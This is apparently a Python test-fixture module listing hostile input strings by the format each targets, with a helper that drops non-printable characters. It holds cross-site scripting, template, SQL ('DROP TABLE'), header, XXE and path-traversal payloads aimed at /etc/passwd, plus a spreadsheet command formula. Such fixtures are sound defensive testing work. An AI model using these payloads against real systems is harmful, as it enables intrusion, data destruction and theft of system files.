"""Texts that want to be more than text: markup, headers, templates, other formats, what cannot be seen."""

from __future__ import annotations

from typing import Final

HOSTILE: Final[dict[str, str]] = {
    "markup": """</title></script><script>alert(1)</script>"'><img src=x onerror=alert(1)>"""
    "<svg/onload=alert(1)>",
    "link": 'javascript:alert(1)//"><a href="javascript:alert(1)">x</a>',
    "header": "x\r\nBcc: all@evil.example\r\nX-Evil: yes\r\n\r\n<b>body</b>",
    "template": "{{ 7 * 191 }}{% raw %}{{ cycler.__init__ }}${7*191}<%= 7*191 %>%(name)s{0.__class__}",
    "bidi": "\u202eexe.gnp\u2066\u200b\u00ad\ufeff",
    "four bytes": "\U0001f600\U0001d4b3\U0010fffd",
    "no character": "a\ufffeb\uffff\U0010ffff",
    "controls": "\x00\x01\x07\x08\x0b\x0c\x1b[31m\x7f\x85\u2028\u2029",
    "json": '"},{"status":"operational"}],"x":"\\u0000\\',
    "xml": ']]>--><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><?xml version="1.0"?>&e;&#0;',
    "calendar": "x\r\nEND:VEVENT\nEND:VCALENDAR\r\nBEGIN:VEVENT\\;,:",
    "events": "x\n\nevent: component\ndata: {}\r\rid: 9",
    "metrics": 'x"} 1\nbeforehand_incidents_total{told="all"} 99\n# EOF',
    "sheet": "=cmd|' /C calc'!A0",
    "query": "'; DROP TABLE incident; --",
    "path": "../../../../etc/passwd\x00.html",
    "long": "W" * 3_900,
}
"""By what each attacks; every one is a label value that is taken, and an annotation."""

EVERYTHING: Final = " ".join(text for name, text in HOSTILE.items() if name != "long")


def seen(text: str) -> str:
    """Return what of a text a name in a file may hold: no character that cannot be seen."""
    return "".join(one for one in text if one.isprintable())
